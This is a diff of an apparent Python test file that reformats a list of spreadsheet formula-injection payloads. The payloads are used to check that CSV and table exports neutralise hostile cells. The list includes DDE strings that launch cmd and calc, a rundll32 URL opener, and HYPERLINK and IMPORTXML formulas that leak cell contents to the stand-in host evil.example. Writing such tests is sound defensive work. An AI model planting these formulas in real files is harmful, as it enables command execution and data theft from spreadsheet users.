@@ -33,14 +33,54 @@ from assay.workbench.runtime import Runtime, open_runtime
 from assay.workbench.spending import spend
 
 PAYLOADS = (
-    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
-    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1+1", "\x00=1+1", "\u00a0=1+1", "\u3000=1+1", "\uff1d1+1", "\uff0b1+1",
-    "\uff0d1+1", "\uff20SUM(1)", "|calc", "%0A=1+1", "=A1", "=1", "=-1", "+A1", "-A1", "@A1", "=\"a\"&\"b\"", "='x'!A1",
-    "=SUM(A1:A9)", "+cmd|' /C notepad'!'A1'", "=rundll32|'URL.dll,OpenURL'!A", "=DDE(\"cmd\";\"/C calc\";\"1\")",
-    "@import", "-@x", "=\t1", "= 1", "==1", "#N/A",
-    "\ufeff=1", "\u200b=1", "\u202e=1", "\x1b=1", "\ufe66=1", "\u22121+A1", "_x003D_1+1",
-)  # fmt: skip
+    "=1+1",
+    "=cmd|'/C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "  +1+1",
+    "\x00=1+1",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    "|calc",
+    "%0A=1+1",
+    "=A1",
+    "=1",
+    "=-1",
+    "+A1",
+    "-A1",
+    "@A1",
+    '="a"&"b"',
+    "='x'!A1",
+    "=SUM(A1:A9)",
+    "+cmd|' /C notepad'!'A1'",
+    "=rundll32|'URL.dll,OpenURL'!A",
+    '=DDE("cmd";"/C calc";"1")',
+    "@import",
+    "-@x",
+    "=\t1",
+    "= 1",
+    "==1",
+    "#N/A",
+    "\ufeff=1",
+    "\u200b=1",
+    "\u202e=1",
+    "\x1b=1",
+    "\ufe66=1",
+    "\u22121+A1",
+    "_x003D_1+1",
+)
 MANY = 60
 """Rows of a run that stops before it has asked them all."""
 FORMULA = re.compile(r"^\s*[=+@\uff1d\uff0b\uff20|%\t\r\x00]")
@@ -55,9 +95,14 @@ def hostile() -> Iterator[CellFact]:
     """Cells with a payload in every text."""
     for n, text in enumerate(PAYLOADS):
         yield cell_fact(
-            n, output=text, error=text, reasoning=text, row_key=text, values=(text, text),
+            n,
+            output=text,
+            error=text,
+            reasoning=text,
+            row_key=text,
+            values=(text, text),
             scores=(Score("contains", 1.0, True, text),),
-        )  # fmt: skip
+        )
 
 
 @pytest.mark.parametrize("kind", ["csv", "tidy", "wide"])
